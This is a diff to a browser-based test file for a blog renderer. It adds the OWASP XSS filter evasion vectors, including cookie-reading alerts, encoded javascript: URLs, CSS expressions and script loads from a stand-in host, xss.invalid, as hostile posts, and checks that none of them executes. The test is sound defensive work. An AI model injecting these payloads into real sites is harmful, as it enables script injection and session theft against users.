@@ -1,12 +1,14 @@
 // Hostile posts in real Chromium: bodies are sanitized in the browser (DOMPurify, see
 // src/core/body/dom.rs), so this is where a vector would fire. The posts are written
 // into a temp folder at test time — the HTML5 Security Cheatsheet vectors of
-// ../shared/xss (HTML and Markdown bodies), Markdown link forms with script URLs,
+// ../shared/xss and the OWASP filter evasion cheat sheet's (HTML and Markdown bodies),
+// Markdown link forms with script URLs,
 // mutation-XSS namespace-confusion cases and hostile front matter — indexed with the
 // CLI and loaded through `?src=` from another origin. Every alert/prompt/confirm is
 // rewritten to set `window.__xss = 1` (and the real ones are trapped too); every page
 // is scanned for event-handler attributes, script URLs and active elements, and the
-// links inside the body are hovered and clicked.
+// links inside the body are hovered and clicked. The same posts then go through every
+// other path that renders: bundled articles, files opened locally, an embed widget.
 import { test, before, after } from 'node:test';
 import assert from 'node:assert/strict';
 import fs from 'node:fs';
@@ -93,6 +95,102 @@ const MXSS = [
   '<plaintext><img src=x onerror=alert(1)>',
 ];
 
+// The OWASP XSS Filter Evasion Cheat Sheet's vectors (its HTML-context ones, written
+// out here; remote script URLs point at a host that never resolves).
+const OWASP = [
+  `<SCRIPT SRC=http://xss.invalid/xss.js></SCRIPT>`,
+  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
+  `<IMG SRC="javascript:alert('XSS');">`,
+  `<IMG SRC=javascript:alert('XSS')>`,
+  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
+  `<IMG SRC=javascript:alert(&quot;XSS&quot;)>`,
+  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
+  `<a onmouseover="alert(document.cookie)">xxs link</a>`,
+  `<a onmouseover=alert(document.cookie)>xxs link</a>`,
+  `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\>`,
+  `<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`,
+  `<IMG SRC=# onmouseover="alert('xxs')">`,
+  `<IMG SRC= onmouseover="alert('xxs')">`,
+  `<IMG onmouseover="alert('xxs')">`,
+  `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
+  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
+  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
+  `<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>`,
+  `<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`,
+  `<IMG SRC="jav\tascript:alert('XSS');">`,
+  `<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
+  `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`,
+  `<IMG SRC="jav&#x0D;ascript:alert('XSS');">`,
+  `<IMG SRC=" &#14;  javascript:alert('XSS');">`,
+  `<SCRIPT/XSS SRC="http://xss.invalid/xss.js"></SCRIPT>`,
+  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
+  `<SCRIPT/SRC="http://xss.invalid/xss.js"></SCRIPT>`,
+  `<<SCRIPT>alert("XSS");//\<</SCRIPT>`,
+  `<SCRIPT SRC=http://xss.invalid/xss.js?< B >`,
+  `<SCRIPT SRC=//xss.invalid/.j>`,
+  `<IMG SRC="\`<javascript:alert>\`('XSS')"`,
+  `<iframe src=http://xss.invalid/scriptlet.html <`,
+  `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
+  `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
+  `<BODY BACKGROUND="javascript:alert('XSS')">`,
+  `<IMG DYNSRC="javascript:alert('XSS')">`,
+  `<IMG LOWSRC="javascript:alert('XSS')">`,
+  `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
+  `<IMG SRC='vbscript:msgbox("XSS")'>`,
+  `<svg/onload=alert('XSS')>`,
+  `<BODY ONLOAD=alert('XSS')>`,
+  `<BGSOUND SRC="javascript:alert('XSS');">`,
+  `<BR SIZE="&{alert('XSS')}">`,
+  `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
+  `<LINK REL="stylesheet" HREF="http://xss.invalid/xss.css">`,
+  `<STYLE>@import'http://xss.invalid/xss.css';</STYLE>`,
+  `<META HTTP-EQUIV="Link" Content="<http://xss.invalid/xss.css>; REL=stylesheet">`,
+  `<STYLE>BODY{-moz-binding:url("http://xss.invalid/xssmoz.xml#xss")}</STYLE>`,
+  `<STYLE>@im\\port'\\ja\\vasc\\ript:alert("XSS")';</STYLE>`,
+  `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`,
+  `exp/*<A STYLE='no\\xss:noxss("*//*");xss:ex/*XSS*//*/*/pression(alert("XSS"))'>`,
+  `<STYLE TYPE="text/javascript">alert('XSS');</STYLE>`,
+  `<STYLE>.XSS{background-image:url("javascript:alert('XSS')");}</STYLE><A CLASS=XSS></A>`,
+  `<STYLE type="text/css">BODY{background:url("javascript:alert('XSS')")}</STYLE>`,
+  `<XSS STYLE="behavior: url(xss.htc);">`,
+  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
+  `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
+  `<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert('XSS');">`,
+  `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
+  `<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>`,
+  `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`,
+  `<TABLE BACKGROUND="javascript:alert('XSS')">`,
+  `<TABLE><TD BACKGROUND="javascript:alert('XSS')">`,
+  `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
+  `<DIV STYLE="background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029">`,
+  `<DIV STYLE="background-image: url(&#1;javascript:alert('XSS'))">`,
+  `<DIV STYLE="width: expression(alert('XSS'));">`,
+  `<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->`,
+  `<BASE HREF="javascript:alert('XSS');//">`,
+  `<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.invalid/scriptlet.html"></OBJECT>`,
+  `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
+  `<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert('XSS')"></B></I></XML><SPAN DATASRC="#xss" DATAFLD="B" DATAFORMATAS="HTML"></SPAN>`,
+  `<HTML><BODY><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time"><?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" to="XSS<SCRIPT DEFER>alert(&quot;XSS&quot;)</SCRIPT>"></BODY></HTML>`,
+  `<SCRIPT a=">" SRC="http://xss.invalid/xss.js"></SCRIPT>`,
+  `<SCRIPT =">" SRC="http://xss.invalid/xss.js"></SCRIPT>`,
+  `<SCRIPT a=">" '' SRC="http://xss.invalid/xss.js"></SCRIPT>`,
+  `<SCRIPT "a='>'" SRC="http://xss.invalid/xss.js"></SCRIPT>`,
+  `<SCRIPT a=\`>\` SRC="http://xss.invalid/xss.js"></SCRIPT>`,
+  `<SCRIPT a=">'>" SRC="http://xss.invalid/xss.js"></SCRIPT>`,
+  `<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://xss.invalid/xss.js"></SCRIPT>`,
+  `<A HREF="http://66.102.7.147/">XSS</A>`,
+  `<A HREF="javascript:document.location='http://www.google.com/'">XSS</A>`,
+  `<A HREF="http://www.google.com./">XSS</A>`,
+  `<A HREF="//www.google.com/">XSS</A>`,
+  `<img src="x" onerror="alert(1)"/><form><button formaction=javascript:alert(1)>X</button></form>`,
+  `<a href="jav&#x0D;ascript:alert(1)">cr</a><a href="&#0000106avascript:alert(1)">padded</a>`,
+  `<svg><script xlink:href=data:,alert(1)></script></svg>`,
+  `<isindex type=image src=1 onerror=alert(1)>`,
+  `<marquee onstart=alert(1)>x</marquee>`,
+  `<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>`,
+  `<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>`,
+];
+
 // Markdown's own ways to write a link or an image.
 const MD_LINKS = [
   '[click](javascript:alert(1))',
@@ -146,6 +244,10 @@ function writePosts(dir) {
     write(`h5sc-${i}.md`, frontMatter(`h5sc markdown ${i}`) + `# Vectors ${i}\n\n`
       + b.map((v, j) => (j % 2 ? `- item ${v}` : `Text before ${v} and after.`)).join('\n\n'));
   });
+  batches(OWASP.map(armed), 30).forEach((b, i) => {
+    write(`owasp-${i}.html`, frontMatter(`owasp html ${i}`) + `<p>OWASP vectors, part ${i}.</p>\n` + b.map((v) => `<div class="v">${v}</div>`).join('\n'));
+    write(`owasp-${i}.md`, frontMatter(`owasp markdown ${i}`) + `# OWASP ${i}\n\n` + b.join('\n\n'));
+  });
   const mxss = MXSS.map(armed);
   batches(mxss, 25).forEach((b, i) => {
     write(`mxss-${i}.html`, frontMatter(`mxss html ${i}`) + b.map((v) => `<div class="v">${v}</div>`).join('\n'));
@@ -156,9 +258,8 @@ function writePosts(dir) {
   const fm = {
     title: `T${HOSTILE}`,
     author: `A${HOSTILE}`,
-    // (No '/' in category names: the category route splits its path on '/', a
-    // separate, pre-existing limitation.)
-    categories: ['C"><img src=x onerror=alert(1)>', '<svg onload=alert(1)>'],
+    // A name with '/' in it (its link encodes it as %2F) must still find its page.
+    categories: ['C"><img src=x onerror=alert(1)>', '<svg onload=alert(1)></script>'],
     tags: [`G${HOSTILE}`, 'javascript:alert(1)'],
     thumbnail: 'javascript:alert(1)',
     cover: 'data:text/html,<script>alert(1)</script>',
@@ -438,8 +539,14 @@ test('local files: the hostile posts opened from disk, parsed and rendered in th
   await page.waitForFunction((n) => document.querySelector('.bs-local-bar')?.dataset.articles === String(n), posts.catalog.articles.length);
   assert.deepEqual(await findings(page), [], 'the list of opened files');
   for (const a of vectorPosts()) {
-    // In-app navigation only: opened files live in this page.
-    await page.locator('main article.bs-card h2 a', { hasText: a.title }).first().click();
+    // In-app navigation only (opened files live in this page): the list's pages are
+    // walked with their own links until the post's card is there.
+    const card = page.locator('main article.bs-card h2 a').filter({ hasText: new RegExp(`^${a.title.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}$`) });
+    for (let p = 2; !(await card.count()) && p < 10; p++) {
+      await page.locator(`.bs-pagination a.bs-page-link:text-is("${p}")`).click();
+      await page.waitForFunction((p) => new URL(location.href).searchParams.get('page') === String(p), p);
+    }
+    await card.first().click();
     await page.waitForSelector('.bs-body');
     await page.evaluate(async () => {
       for (let y = 0; y < document.body.scrollHeight; y += 600) { window.scrollTo(0, y); await new Promise((r) => setTimeout(r, 20)); }
@@ -452,6 +559,11 @@ test('local files: the hostile posts opened from disk, parsed and rendered in th
     assert.equal(await page.evaluate(() => window.__xss || 0), 0, a.path);
     await page.goBack();
     await page.waitForSelector('main .bs-list');
+    // Back to the first page of the list for the next post.
+    if (new URL(page.url()).searchParams.get('page')) {
+      await page.locator('.bs-pagination a.bs-page-link:text-is("1")').click();
+      await page.waitForFunction(() => !new URL(location.href).searchParams.get('page'));
+    }
   }
   assert.deepEqual(page.dialogs, []);
   assert.deepEqual(page.problems, []);
